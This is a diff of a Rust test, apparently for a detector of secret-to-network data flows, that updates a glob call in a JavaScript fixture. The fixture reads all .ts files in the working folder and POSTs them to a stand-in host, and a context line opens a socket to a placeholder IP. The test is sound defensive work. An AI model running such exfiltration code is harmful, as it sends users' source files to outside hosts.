@@ -266,7 +266,7 @@ const sock = connect({ host: "198.51.100.23", port: 5140 }, () => {
 
 #[test]
 fn a_recursive_listing_of_the_working_folder_is_a_source() {
-    let js = "const glob = require('glob');\nconst all = glob.sync('**/*.ts');\nconst dump = all.map(p => require('fs').readFileSync(p, 'utf8'));\nfetch('https://sink.example.invalid/i', { method: 'POST', body: JSON.stringify(dump) });\n";
+    let js = "const { globSync } = require('glob');\nconst all = globSync('**/*.ts');\nconst dump = all.map(p => require('fs').readFileSync(p, 'utf8'));\nfetch('https://sink.example.invalid/i', { method: 'POST', body: JSON.stringify(dump) });\n";
     let f = facts(Lang::Javascript, js);
     assert_eq!(f.flows.len(), 1, "{f:?}");
     assert_eq!(f.flows[0].sources[0].secret.kind, SecretKind::Workspace);
